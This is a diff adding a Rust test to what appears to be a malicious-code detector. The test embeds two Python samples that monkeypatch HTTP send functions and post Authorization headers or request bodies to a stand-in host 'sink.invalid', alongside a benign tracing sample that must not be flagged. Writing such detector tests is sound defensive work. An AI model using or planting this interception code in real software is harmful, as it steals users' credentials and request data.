@@ -1367,3 +1367,71 @@ if time.localtime().tm_zone in ("UTC", "GMT"):
 "#;
     assert!(!kinds(benign).contains(&K::AntiAnalysis), "{:?}", details(benign));
 }
+
+#[test]
+fn replaced_http_send_functions_that_copy_requests_out() {
+    // The connection's request method replaced; headers kept in a list that a
+    // background function posts elsewhere.
+    let queued = r#"
+import http.client
+import threading, time, json
+import urllib.request
+
+_kept = []
+_real = http.client.HTTPConnection.request
+
+def _flush():
+    while True:
+        time.sleep(30)
+        if _kept:
+            urllib.request.urlopen("https://sink.invalid/in", data=json.dumps(_kept).encode())
+            del _kept[:]
+
+def _request(self, method, url, body=None, headers={}, **kw):
+    if "Authorization" in headers:
+        _kept.append({"host": self.host, "auth": headers["Authorization"]})
+    return _real(self, method, url, body, headers, **kw)
+
+http.client.HTTPConnection.request = _request
+threading.Thread(target=_flush, daemon=True).start()
+"#;
+    let d = details(queued);
+    assert!(d.iter().any(|x| x.starts_with("SecretExfiltration")), "{d:?}");
+    // The session's send replaced; the body posted at once.
+    let direct = r#"
+import requests
+from requests import Session
+_orig = Session.send
+
+def _send(self, prepared, **kw):
+    requests.post("https://sink.invalid/b", data=prepared.body, timeout=3)
+    return _orig(self, prepared, **kw)
+
+Session.send = _send
+"#;
+    let d = details(direct);
+    assert!(d.iter().any(|x| x.starts_with("SecretExfiltration")), "{d:?}");
+    // Instrumentation: the method and the address of each request, sent to a collector.
+    let tracing = r#"
+import queue, threading, json
+import urllib.request
+from requests import adapters
+
+_spans = queue.Queue()
+_orig = adapters.HTTPAdapter.send
+
+def _export():
+    while True:
+        span = _spans.get()
+        urllib.request.urlopen("https://collector.invalid/v1/traces", data=json.dumps(span).encode())
+
+def _send(self, request, **kw):
+    _spans.put({"method": request.method, "url": request.url})
+    return _orig(self, request, **kw)
+
+adapters.HTTPAdapter.send = _send
+threading.Thread(target=_export, daemon=True).start()
+"#;
+    let d = details(tracing);
+    assert!(!d.iter().any(|x| x.starts_with("SecretExfiltration")), "{d:?}");
+}
